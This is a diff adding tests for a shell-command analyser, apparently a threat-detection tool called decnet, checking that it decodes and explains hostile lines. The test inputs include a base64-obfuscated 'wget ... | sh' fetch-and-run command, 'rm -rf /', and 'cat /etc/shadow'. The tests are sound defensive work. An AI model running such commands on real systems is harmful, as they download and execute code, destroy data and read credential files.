@@ -18,6 +18,16 @@ def test_explain_of_a_harmless_line_says_so(decnet: CommandLine) -> None:
     assert "No rule fires" in decnet.run("ttp", "explain", "who cares").stdout
 
 
+def test_explain_shows_what_a_line_would_run_and_how_it_was_decoded(decnet: CommandLine) -> None:
+    out = decnet.run("ttp", "explain", "echo d2dldCBodHRwOi8vMTAuMC4wLjEveA== | base64 -d | sh").stdout
+    assert "wget http://10.0.0.1/x   in sh, decoded base64" in out
+    assert "would run nothing" in decnet.run("ttp", "explain", "# rm -rf /").stdout
+
+
+def test_explain_names_a_limit_that_was_reached(decnet: CommandLine) -> None:
+    assert "limit reached: commands" in decnet.run("ttp", "explain", "id;" * 600).stdout
+
+
 def test_explain_as_json_has_the_byte_range(decnet: CommandLine) -> None:
     found = json.loads(decnet.run("ttp", "explain", "--json", "cat /etc/shadow").stdout)
     (rule,) = [rule for rule in found["rules"] if rule["rule_id"] == "R0014"]
